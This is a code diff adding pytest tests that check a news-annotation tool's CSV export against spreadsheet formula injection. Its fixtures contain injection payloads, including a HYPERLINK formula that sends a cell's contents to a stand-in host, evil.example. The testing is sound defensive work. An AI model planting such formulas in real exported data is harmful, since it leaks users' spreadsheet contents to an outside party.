@@ -3,6 +3,8 @@ nothing changed: never a traceback, a hang or a megabyte of error message."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import subprocess
@@ -343,3 +345,41 @@ def test_full_disk_is_one_line_and_nothing_is_lost(cli, tmp_path, tmpfs):
     filler.unlink()
     assert "healthy" in cli("doctor", db=db).out
     assert cli("tag", article, "2", "defence", db=db).code == 0  # and it works again
+
+
+# -- CSV export: no formula injection ----------------------------------------------------------
+def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(cli, tmp_path):
+    """OWASP's rule for CSV injection: a cell starting with = + - @ (or tab, CR) gets "'"."""
+    source = tmp_path / "formulas.txt"
+    source.write_text(
+        "Formula news\n"
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click for details") was in the text.\n'
+        "+1 is what the minister said about the plan.\n"
+        "-5 percent was the cut in steel tariffs.\n"
+        "@embassy posted the statement on Monday.\n"
+        "A plain sentence stays as it is.\n", "utf-8")
+    db = tmp_path / "db"
+    assert cli("import", source, db=db).code == 0
+    article = _ids(cli, db)["Formula news"]
+    rows = _show(cli, db, article)["sentences"]
+    note = '=HYPERLINK("http://evil.example","notes")'
+    for row in rows:
+        if not row["heading"]:
+            assert cli("tag", article, str(row["index"]), "trade", "--note", note, db=db).code == 0
+    result = cli("export", "-f", "csv", db=db)
+    assert result.code == 0, result.err
+    cells = list(csv.DictReader(io.StringIO(result.out)))
+    texts = [c["text"] for c in cells]
+    assert texts[0].startswith("'=HYPERLINK(") and texts[1].startswith("'+1 ")
+    assert texts[2].startswith("'-5 ") and texts[3].startswith("'@embassy")
+    assert texts[4] == "A plain sentence stays as it is."
+    assert all(c["note"] == "'" + note for c in cells)
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r"))
+               for c in cells for v in c.values())
+
+
+def test_csv_cell_rule():
+    from annotations.formats import csv_cell
+
+    assert [csv_cell(v) for v in ["=1+2", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", "'q"]] == [
+        "'=1+2", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", "'q"]
